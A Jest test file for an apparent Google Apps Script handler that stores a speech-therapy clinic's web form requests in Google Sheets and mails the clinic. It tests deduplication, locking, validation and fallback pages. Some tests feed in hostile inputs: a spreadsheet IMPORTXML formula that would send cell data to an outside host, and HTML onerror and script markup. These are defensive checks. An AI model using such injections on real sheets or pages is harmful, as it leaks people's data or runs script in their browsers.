/** @jest-environment node */
import path from "node:path";
import { FakeGoogle, FakeSheet } from "./fake-google";
import { leadForms } from "./lead.js";
import { Walked } from "./walked";

const booking = {
  parentName: "Asha Sen",
  phoneNumber: "09876543210",
  location: "delhi CR Park",
  serviceRequest: "Speech therapy",
  timestamp: "2026-11-21T06:59:58.123Z",
};

const consultation = {
  childName: "Ravi",
  dob: "2019-08-24",
  gender: "Male",
  parentName: "Asha Sen",
  contact: "9876543210",
  email: "",
  address: "12 Market 1\nCR Park",
  serviceRequest: "",
  timestamp: "2026-11-21T06:59:58.123Z",
};

const receivedAt = "2026-11-21T12:30:00+05:30";
const trouble = "Your request could not be saved just now.";

let google: FakeGoogle;
let script: ReturnType<FakeGoogle["load"]>;

beforeEach(() => {
  google = new FakeGoogle();
  script = google.load({
    notify: "desk@example.in",
    phone: "+91 11 2345 6789",
  });
});

const walked = new Walked(path.join(__dirname, "code.js"));
beforeAll(() => walked.start());
afterEach(() => walked.note());
afterAll(() => walked.end());

/** Posts as Google hands it over: arrays of values by name. */
function post(fields: Record<string, string>) {
  const parameters = Object.fromEntries(
    Object.entries(fields).map(([name, value]) => [name, [value]]),
  );
  return script.doPost({ parameter: fields, parameters });
}

const result = (fields: Record<string, string>) =>
  JSON.parse(post(fields).body) as { ok: boolean; error?: string };

const rows = (tab = "Booking") => google.sheets?.[tab]?.rows.slice(1) ?? [];

function without(name: string, fields: Record<string, string>) {
  return Object.fromEntries(
    Object.entries(fields).filter(([key]) => key !== name),
  );
}

describe("a request sent by the site", () => {
  test("is one row with the server's time, and the answer says so", () => {
    const answer = post(booking);

    expect(answer).toEqual({ type: "json", body: '{"ok":true}' });
    expect(rows()).toEqual([[...Object.values(booking), receivedAt]]);
    expect(google.flushed).toBe(1);
    expect(google.locked).toBe(false);
  });

  test("goes to the tab of its form, which is made with its header row if missing", () => {
    post(booking);
    post(consultation);

    expect(google.sheets!.Booking!.rows[0]).toEqual([
      ...leadForms.booking,
      "receivedAt",
    ]);
    expect(google.sheets!.Consultation!.rows[0]).toEqual([
      ...leadForms.consultation,
      "receivedAt",
    ]);
    expect(google.sheets!.Booking!.frozen).toBe(1);
    expect(rows("Consultation")).toEqual([
      [...Object.values(consultation), receivedAt],
    ]);
  });

  test("gets a header row above it where the clinic deleted that row", () => {
    const sheet = (google.sheets!.Booking = new FakeSheet());
    sheet.rows.push(["An older", "request"]);

    post(booking);

    expect(sheet.rows.map((row) => row[0])).toEqual([
      "parentName",
      "An older",
      "Asha Sen",
    ]);
  });

  test("finds room in a full sheet", () => {
    for (let index = 0; index < 6; index += 1)
      post({ ...booking, parentName: `Parent ${index}` });

    expect(rows()).toHaveLength(6);
  });

  test("reads in Hindi and emoji as typed", () => {
    const typed = "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं";

    post({ ...booking, parentName: "आशा सेन", serviceRequest: typed });

    expect(rows()[0]).toEqual(expect.arrayContaining(["आशा सेन", typed]));
  });

  test("cannot run as a formula, and +91 stays readable", () => {
    const formula = '=IMPORTXML("http://example.com/?"&A1,"//a")';

    post({
      ...booking,
      parentName: formula,
      phoneNumber: "+91 98765 43210",
      serviceRequest: "＝1",
    });

    expect(rows()[0]!.slice(0, 4)).toEqual([
      formula,
      "+91 98765 43210",
      "delhi CR Park",
      "＝1",
    ]);
  });
});

describe("a repeat within ten minutes", () => {
  const later = (minutes: number) => (google.now += minutes * 60_000);
  const again = { ...booking, timestamp: "2026-11-21T07:03:00.000Z" };

  test("is thanked for and dropped, without a second mail", () => {
    post(booking);
    later(9);

    expect(result(again)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
    expect(google.mails).toHaveLength(1);
  });

  test("is known from the rows when the cache has forgotten it", () => {
    const formula = { ...booking, phoneNumber: "+91 98765 43210" };
    post(formula);
    google.cached.clear();
    later(9);

    expect(result(formula)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
  });

  test("is known from the rows when the cache is out of order", () => {
    google.cacheWorks = false;
    post(booking);

    expect(result(again)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
    expect(google.log.join()).toContain("cache");
  });

  test("is a new request once ten minutes have passed", () => {
    post(booking);
    google.cached.clear();
    later(10);

    post(again);

    expect(rows()).toHaveLength(2);
  });

  test("is not mistaken for another child's request", () => {
    post(consultation);
    google.cached.clear();
    post({ ...consultation, childName: "Rani" });

    expect(rows("Consultation")).toHaveLength(2);
  });

  test("is not looked for in rows whose time was edited away", () => {
    post(booking);
    google.cached.clear();
    rows()[0]![5] = "called back";

    post(booking);

    expect(rows()).toHaveLength(2);
  });
});

describe("two posts at once", () => {
  test("of the same request are one row", () => {
    google.whileWaiting = () => post(booking);

    expect(result(booking)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
    expect(google.mails).toHaveLength(1);
  });

  test("of two parents are two rows", () => {
    google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });

    post(booking);

    expect(rows().map((row) => row[0])).toEqual(["Ravi Roy", "Asha Sen"]);
  });
});

describe("the parent is told the truth", () => {
  test("when the lock is not granted", () => {
    google.lockGranted = false;

    expect(result(booking)).toEqual({ ok: false, error: trouble });
    expect(rows()).toEqual([]);
  });

  test("when the row cannot be written; the lock is free and a second try works", () => {
    const sheet = (google.sheets!.Booking = new FakeSheet());
    sheet.failAppend = true;

    expect(result(booking)).toEqual({ ok: false, error: trouble });
    expect(google.locked).toBe(false);
    expect(google.mails).toEqual([]);
    expect(google.log.join()).not.toContain("Asha");

    sheet.failAppend = false;
    expect(result(booking)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
  });

  test("when the script belongs to no spreadsheet", () => {
    google.sheets = undefined;

    expect(result(booking)).toEqual({ ok: false, error: trouble });
    expect(google.log.join()).toContain("no spreadsheet");
  });

  test("when a field is unknown, repeated or a megabyte long", () => {
    const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };

    expect(result({ ...booking, card: "1" }).error).toContain('"card"');
    expect(result({ ...booking, parentName: "x".repeat(1e6) }).error).toBe(
      "Please shorten the parent's name: at most 200 characters.",
    );
    expect(script.doPost({ parameters: twice }).body).toContain(
      "more than once",
    );
    expect(google.sheets).toEqual({});
  });

  test("when nothing came at all", () => {
    for (const event of [undefined, null, {}, { parameters: {} }])
      expect(JSON.parse(script.doPost(event).body)).toEqual({
        ok: false,
        error:
          "These are not the fields of the booking form or of the consultation form.",
      });
  });

  test("when what came is not what Google promises", () => {
    for (const parameters of [{ parentName: null }, { location: 5 }])
      expect(JSON.parse(script.doPost({ parameters }).body).ok).toBe(false);
  });
});

describe("the clinic's mail", () => {
  test("names each field that was filled in, and no person in its subject", () => {
    post(consultation);

    const [mail] = google.mails;
    expect(mail!.to).toBe("desk@example.in");
    expect(mail!.subject).toBe("K7 website: new consultation request");
    expect(mail!.body).toContain("childName: Ravi");
    expect(mail!.body).not.toContain("email");
    expect(mail!.htmlBody).toContain("12 Market 1<br>CR Park");
  });

  test("shows markup as text", () => {
    post({ ...booking, parentName: `<img src=x onerror="a('&')">` });

    expect(google.mails[0]!.htmlBody).toContain(
      "&lt;img src=x onerror=&quot;a(&#39;&amp;&#39;)&quot;&gt;",
    );
    expect(google.mails[0]!.htmlBody).not.toContain("<img");
  });

  test("never costs the row when the quota is spent", () => {
    google.mailQuota = 0;

    expect(result(booking)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
    expect(google.log.join()).toContain("no mail was sent");
  });

  test("is not sent where the clinic names no address", () => {
    script = google.load();

    expect(result(booking)).toEqual({ ok: true });
    expect(google.mails).toEqual([]);
  });
});

describe("a browser that posted without scripts", () => {
  const native = without("timestamp", booking);

  test("shows a thank-you page, and the row has the server's time", () => {
    const answer = post(native);

    expect(answer.type).toBe("html");
    expect(answer.title).toBe("Thank you");
    expect(answer.body).toContain('<html lang="en">');
    expect(answer.body).toContain("We&#39;ll get back to you soon.");
    expect(answer.body).toContain('href="tel:+911123456789"');
    expect(rows()[0]![4]).toBe("2026-11-21T07:00:00.000Z");
  });

  test("is told what was wrong, with markup shown as text, and whom to call", () => {
    const answer = post({ ...native, "<script>": "" });

    expect(answer.title).toBe("Your request was not sent");
    expect(answer.body).toContain("&lt;script&gt;");
    expect(answer.body).not.toContain("<script>");
    expect(answer.body).toContain("tel:");
    expect(rows()).toEqual([]);
  });

  test("is told when the row could not be written", () => {
    google.sheets = undefined;

    expect(post(native).body).toContain(trouble);
  });

  test("sends its service request under the input's own name", () => {
    const markup = without(
      "serviceRequest",
      without("timestamp", consultation),
    );

    post({ ...markup, medicalHistory: "None" });

    expect(rows("Consultation")[0]![7]).toBe("None");
  });

  test("gets a page without a phone line where the clinic gives none", () => {
    script = google.load();

    expect(post(native).body).not.toContain("tel:");
  });

  test("gets a plain answer when no page can be made", () => {
    google.pagesWork = false;

    expect(post(native)).toEqual({ type: "json", body: '{"ok":true}' });
  });
});

test("the health check answers", () => {
  expect(script.doGet().body).toBe('{"ok":true,"service":"k7-leads"}');
});

// The last of the file: it looks back on all the others.
test("these tests walk through every branch of the script", () => {
  expect(walked.idleLines()).toEqual([]);
});
